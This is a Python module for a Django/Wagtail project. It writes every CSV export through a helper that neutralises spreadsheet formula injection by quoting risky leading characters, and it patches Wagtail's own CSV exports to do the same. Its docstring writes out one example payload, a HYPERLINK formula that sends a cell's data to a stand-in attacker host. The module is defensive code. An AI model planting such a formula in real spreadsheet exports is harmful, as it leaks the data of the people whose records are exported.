"""The one CSV writer for every export: cells a spreadsheet can never run as a formula.

A spreadsheet runs a cell starting with `=`, `+`, `-` or `@` as a formula (and a leading tab
or carriage return can hide one), so a producer group renamed
`=1+HYPERLINK("http://evil.example/?d="&D2,"Open statement")` would put a live link into
finance's payout sheet. OWASP's rule, applied here to every text cell: such a cell gets a
leading single quote, which spreadsheets show as text. Numbers passed as numbers (int,
Decimal, float) are written as numbers, so `Decimal("-1800.00")` stays a negative amount;
the same characters passed as text (`"-1800.00"`, `"+92 300 1234567"`) are text and neutralised.

Wagtail's own spreadsheet exports (`list_export` on viewsets, the admin reports) go through
`spreadsheet_cell` too: see `wagtail_exports_neutralised`.
"""

import csv
import datetime
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

# A spreadsheet runs (or may run, after trimming a tab or line break) a cell starting so.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

NUMBER_TYPES = (int, Decimal, float)


def spreadsheet_text(text: str) -> str:
    """Text as a spreadsheet must receive it: never the start of a formula."""
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def spreadsheet_cell(value: Any) -> Any:
    """One cell: numbers as numbers, dates as the csv module writes them, the rest as safe text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return spreadsheet_text(str(value))
    if isinstance(value, Decimal):
        # Plain notation (never 1E+3); `f` keeps the places given, so 1800.00 stays 1800.00.
        return format(value, "f")
    if isinstance(value, NUMBER_TYPES):
        return value
    if isinstance(value, datetime.datetime | datetime.date | datetime.time):
        return str(value)
    return spreadsheet_text(str(value))


class SpreadsheetWriter:
    """A csv.writer whose every row goes through `spreadsheet_cell`."""

    def __init__(self, stream) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SpreadsheetWriter]:
    """An attachment response named `filename` (without .csv) and a safe writer into it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    response.write("\ufeff")  # the byte order mark: Excel then reads Urdu names as UTF-8
    return response, SpreadsheetWriter(response)


def wagtail_exports_neutralised() -> None:
    """Route Wagtail's CSV exports (`SpreadsheetExportMixin`) through `spreadsheet_cell`.

    Wagtail writes its CSV cells raw (its XLSX export already stores formulas as text). Called
    once from MarketplaceConfig.ready(), so every viewset's `list_export` and every admin
    report is covered without each one remembering to.
    """

    if getattr(SpreadsheetExportMixin.write_csv_row, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    write_csv_row.__dict__["neutralises_formulas"] = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
